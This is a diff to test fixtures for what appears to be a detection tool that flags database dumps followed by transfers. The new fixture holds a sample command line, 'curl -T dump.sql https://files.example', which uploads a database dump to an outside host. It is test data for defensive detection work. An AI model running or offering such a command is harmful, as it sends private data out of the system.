@@ -79,7 +79,7 @@ export function decision(change: Partial<Decision> = {}): Decision {
     rule: 'db-dump',
     key: ['db-3', 'deploy'],
     keyNames: ['host', 'user'],
-    qualifiedAt: hits[0]?.time ?? midnight,
+    qualifiedAt: midnight,
     late: false,
     hits,
     capped: false,
@@ -95,7 +95,6 @@ export function parts(change: Partial<FindingParts> = {}): FindingParts {
   return {
     rule: rule(),
     decision: decision(),
-    keyNames: ['host', 'user'],
     legNames: [],
     events: new Map([['e1', view('e1', dumpFields)]]),
     staged: false,
@@ -106,4 +105,20 @@ export function parts(change: Partial<FindingParts> = {}): FindingParts {
 
 export function finding(change: Partial<Finding> = {}): Finding {
   return { ...makeFinding(parts()), ...change };
+}
+
+/** A finding of two legs, as a person would get it. */
+export function makeDump(): Finding {
+  const sent = { ...dumpFields, process: { name: 'curl', command_line: 'curl -T dump.sql https://files.example' } };
+  return makeFinding(
+    parts({
+      decision: decision({ hits: [hit('e1'), hit('e2', midnight + 60 * second, 1)], measures: { rules: 2 } }),
+      legNames: ['dump', 'transfer'],
+      events: new Map([
+        ['e1', view('e1', dumpFields)],
+        ['e2', view('e2', sent, midnight + 60 * second)],
+      ]),
+      missing: ['No network telemetry of db-3.'],
+    }),
+  );
 }
